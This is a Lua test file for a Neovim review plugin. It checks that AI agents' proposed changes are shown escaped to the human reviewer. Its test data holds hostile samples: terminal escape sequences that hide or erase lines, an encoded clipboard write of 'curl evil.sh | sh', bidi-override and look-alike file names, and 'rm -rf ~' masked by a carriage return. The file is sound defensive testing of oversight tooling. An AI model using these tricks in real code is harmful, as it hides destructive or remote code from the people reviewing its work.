-- The reviewer sees what lands: names, rules, reasons and proposed text an agent chose are shown
-- escaped (as airlockd/names.py `escape` writes them) in banners, virtual lines, quickfix items,
-- messages and the statusline, and a change's marks are shown with it. Run by runner.lua.
vim.opt.rtp:prepend(vim.env.AIRLOCK_PLUGIN)
vim.cmd('runtime plugin/airlock.lua')

local t = dofile(vim.fs.dirname(debug.getinfo(1, 'S').source:sub(2)) .. '/runner.lua')
local it, eq = t.it, t.eq

local airlock = require('airlock').setup({ cmd = { 'false' } })
local state = airlock.state
local esc = require('airlock.escape')
local review = require('airlock.review')
local commands = require('airlock.commands')
local lsp = require('airlock.lsp')

-- what an agent may write to hide a line (tests/unit/test_reviewer_sees.py), and names.escape's
-- answer
local ATTACKS = {
  { 'x = 1\27[8m; import os\27[0m', 'x = 1\\x1b[8m; import os\\x1b[0m' },
  { 'evil()\27[1A\27[2K', 'evil()\\x1b[1A\\x1b[2K' },
  { '\27]52;c;Y3VybCBldmlsLnNoIHwgc2g=\7', '\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07' },
  { 'a\u{9b}2Kb', 'a\\x9b2Kb' },
  { 'access = "user\u{202e} \u{2066}// admin\u{2069} \u{2066}"', 'access = "user\\u202e \\u2066// admin\\u2069 \\u2066"' },
  { 'rm -rf ~\rls -l   ', 'rm -rf ~\\rls -l   ' },
  { 'safe\8\8\8\8evil', 'safe\\x08\\x08\\x08\\x08evil' },
}
local LOOKALIKE = 's\u{435}tup.py' -- a Cyrillic е
local LOOKALIKE_MARK = "look-alike name: reads as 'setup.py': 'е' is CYRILLIC SMALL LETTER IE, not the Latin 'e'"
local BIDI = 'evil\u{202e}txt.exe'
local ZW = 'new\u{200b}.py'

--- The first character of `s` a terminal acts on or an editor does not draw (of those the attacks
--- use), or nil.
local function undrawn(s)
  for _, cp in ipairs(vim.fn.str2list(s, true)) do
    if cp < 0x20 or (cp >= 0x7f and cp <= 0x9f) or cp == 0x200b or (cp >= 0x202a and cp <= 0x202e) or (cp >= 0x2066 and cp <= 0x2069) then
      return string.format('U+%04X in %s', cp, vim.inspect(s))
    end
  end
end

local function all_shown(texts)
  for _, s in ipairs(texts) do
    local bad = undrawn(s)
    assert(not bad, bad)
  end
end

local function proposal()
  local text = {}
  for _, a in ipairs(ATTACKS) do
    table.insert(text, a[1])
  end
  return {
    runId = 'r1',
    agent = 'bot',
    state = 'proposed',
    files = {
      {
        path = LOOKALIKE,
        change = 'modified',
        state = 'pending',
        decision = 'review',
        rule = 'invariant:confusable-name',
        reason = 'look-alike\27[8m',
        marks = { LOOKALIKE_MARK, 'the proposed text holds a terminal escape (ESC): shown escaped' },
        hunks = {
          { id = 'h1', state = 'pending', range = { start = { line = 0 } }, oldLines = 1, newLines = #text, oldText = 'a\n', newText = table.concat(text, '\n') .. '\r\n' },
        },
      },
      { path = ZW, change = 'created', state = 'pending', decision = 'review', rule = 'rules[0]\27]52;c;eA==\7', reason = 'r', marks = { 'hidden character in the name' }, hunks = vim.NIL },
    },
    denied = { { path = BIDI, change = 'created', rule = 'invariant:hidden-name', reason = 'no\27[2K', marks = { 'bidirectional control in the name' } } },
  }
end

--- Every text drawn by the plugin on buffer `buf`: virtual text and virtual lines.
local function drawn(buf)
  local out = {}
  for _, m in ipairs(vim.api.nvim_buf_get_extmarks(buf, review.ns, 0, -1, { details = true })) do
    for _, chunk in ipairs(m[4].virt_text or {}) do
      table.insert(out, chunk[1])
    end
    for _, line in ipairs(m[4].virt_lines or {}) do
      for _, chunk in ipairs(line) do
        table.insert(out, chunk[1])
      end
    end
  end
  return out
end

it('escape writes what names.escape writes; newline and tab are kept in text, not in a name', function()
  for _, a in ipairs(ATTACKS) do
    eq(a[2], esc.escape(a[1]), vim.inspect(a[1]))
    eq(a[2], esc.escape(esc.escape(a[1])), 'escaping twice')
  end
  eq('a\nb\tc\\rd', esc.escape('a\nb\tc\rd'))
  eq('a\\nb\\tc', esc.display('a\nb\tc'))
  eq('\\xad\\u061c\\u2028\\ufeff\\ufe0f\\ue000\\u115f\\U000e0001', esc.display('\u{ad}\u{61c}\u{2028}\u{feff}\u{fe0f}\u{e000}\u{115f}\u{e0001}'))
  eq('\\xff\\xc3', esc.display('\255\195'), 'bytes that are no UTF-8')
  for _, s in ipairs({ LOOKALIKE, 'café/日本語.txt', '😀 \u{fffd}' }) do
    eq(s, esc.display(s), 'drawn text is left alone')
  end
end)

it('banners, virtual lines and quickfix items show escaped names, rules, reasons and text, and the marks', function()
  state.reset()
  local dir = vim.fn.tempname()
  vim.fn.mkdir(dir, 'p')
  vim.fn.writefile({}, dir .. '/policies.toml')
  for _, name in ipairs({ LOOKALIKE, BIDI }) do
    vim.fn.writefile({ 'a', 'b' }, dir .. '/' .. name)
  end
  vim.cmd.cd(dir)
  local p = proposal()
  state.on_proposal(p)
  local texts = {}

  vim.cmd.edit(vim.fn.fnameescape(LOOKALIKE))
  local buf = vim.api.nvim_get_current_buf()
  eq(LOOKALIKE, review.path_of(buf))
  review.render(buf)
  local shown = drawn(buf)
  vim.list_extend(texts, shown)
  eq('⚠ ' .. LOOKALIKE_MARK, shown[1], 'the marks head the file')
  eq('⚠ the proposed text holds a terminal escape (ESC): shown escaped', shown[2])
  for _, a in ipairs(ATTACKS) do
    assert(vim.tbl_contains(shown, '+ ' .. a[2]), 'virtual line of ' .. a[2] .. ' in ' .. vim.inspect(shown))
  end
  eq({ 'a', 'b' }, vim.api.nvim_buf_get_lines(buf, 0, -1, false), 'the buffer is the file, untouched')

  vim.cmd.edit(vim.fn.fnameescape(BIDI))
  buf = vim.api.nvim_get_current_buf()
  review.render(buf)
  shown = drawn(buf)
  vim.list_extend(texts, shown)
  eq({ 'airlock: created change denied by invariant:hidden-name — no\\x1b[2K (not offered)', '⚠ bidirectional control in the name' }, shown)

  local items = review.quickfix_items(p)
  for _, i in ipairs(items) do
    table.insert(texts, i.text)
    table.insert(texts, i.module or '')
  end
  eq('⚠ ' .. LOOKALIKE_MARK .. ' · ⚠ the proposed text holds a terminal escape (ESC): shown escaped · hunk 1/1: -1 +7 (review: invariant:confusable-name)', items[1].text)
  eq(nil, items[1].module, 'a path with no hidden character is shown as the file name')
  eq('⚠ hidden character in the name · created (review: rules[0]\\x1b]52;c;eA==\\x07) — pending', items[2].text)
  eq('new\\u200b.py', items[2].module)
  eq('⚠ bidirectional control in the name · denied by invariant:hidden-name: no\\x1b[2K (created; not offered)', items[3].text)
  eq('evil\\u202etxt.exe', items[3].module)
  eq(dir .. '/' .. BIDI, vim.fs.normalize(items[3].filename), 'the item opens the file itself')
  review.set_quickfix(p)
  eq('evil\\u202etxt.exe', vim.fn.getqflist()[3].module)
  all_shown(texts)
end)

it('messages, the statusline, errors and the evidence printer escape what they show', function()
  state.reset()
  state.on_proposal(proposal())
  local said = {}
  local notify = vim.notify
  vim.notify = function(msg)
    table.insert(said, msg)
  end
  local ok, err = pcall(function()
    review.decide('accept', 'file', BIDI)
    review.decide('accept', 'file', 'gone\27[2K.py')
    review.diff('gone\27[2K.py')
  end)
  vim.notify = notify
  assert(ok, err)
  eq('airlock: evil\\u202etxt.exe was denied by invariant:hidden-name and cannot be accepted', said[1])
  eq('airlock: gone\\x1b[2K.py has nothing pending in run r1', said[2])
  eq('airlock: gone\\x1b[2K.py is not part of run r1', said[3])

  state.on_agent({ agent = 'bot', quarantined = true, reason = '3 violations\27[8m' })
  eq('airlock: reviewing 2 hunks in 2 files | bot QUARANTINED: 3 violations\\x1b[8m', airlock.statusline({ plain = true }))
  eq('conflict\\x1b[2K [a\\u202e.py, b\\n.py]', lsp.error_text({ message = 'conflict\27[2K', data = { paths = { 'a\u{202e}.py', 'b\n.py' } } }))
  eq({ 'path: a\\x1b]52;c;eA==\\x07', 'reason: two', '  lines\\x08' }, commands.pretty({ path = 'a\27]52;c;eA==\7', reason = 'two\nlines\8' }))
  all_shown(said)
end)

it('accept all asks first when a pending file is marked: its path escaped and its marks; cancel sends nothing', function()
  state.reset()
  state.on_proposal(proposal())
  local sent, asked, said, answer = {}, {}, {}, false
  local command, confirm, notify = lsp.command, review.confirm, vim.notify
  lsp.command = function(name, args, cb)
    table.insert(sent, { name, args })
    cb(nil, { runId = 'r1', state = 'proposed', applied = {}, conflicts = {} })
  end
  review.confirm = function(question)
    table.insert(asked, question)
    return answer
  end
  vim.notify = function(msg)
    table.insert(said, msg)
  end
  local ok, err = pcall(function()
    review.decide('accept', 'all')
    eq({}, sent, 'cancelled: nothing is sent')
    eq({
      'Accept everything pending in run r1, 2 marked files included?',
      LOOKALIKE,
      '  ⚠ ' .. LOOKALIKE_MARK,
      '  ⚠ the proposed text holds a terminal escape (ESC): shown escaped',
      'new\\u200b.py',
      '  ⚠ hidden character in the name',
    }, vim.split(asked[1], '\n'))
    eq('airlock: nothing accepted (run r1 has marked files)', said[1])
    answer = true
    vim.cmd('Airlock accept all')
    eq({ { 'approve', { runId = 'r1' } } }, sent, 'confirmed: the whole run')
    review.decide('accept', 'file', LOOKALIKE)
    review.decide('reject', 'all')
    eq({ 'approve', { runId = 'r1', paths = { LOOKALIKE } } }, sent[2], 'one file')
    eq({ 'reject', { runId = 'r1' } }, sent[3])
    local plain = proposal()
    for _, f in ipairs(plain.files) do
      f.marks = nil
    end
    state.on_proposal(plain)
    review.decide('accept', 'all')
    eq({ 'approve', { runId = 'r1' } }, sent[4], 'nothing marked')
    eq(2, #asked, 'asked only for a whole run with marked files')
  end)
  lsp.command, review.confirm, vim.notify = command, confirm, notify
  assert(ok, err)
  all_shown(vim.split(asked[1], '\n'))
end)

t.finish()
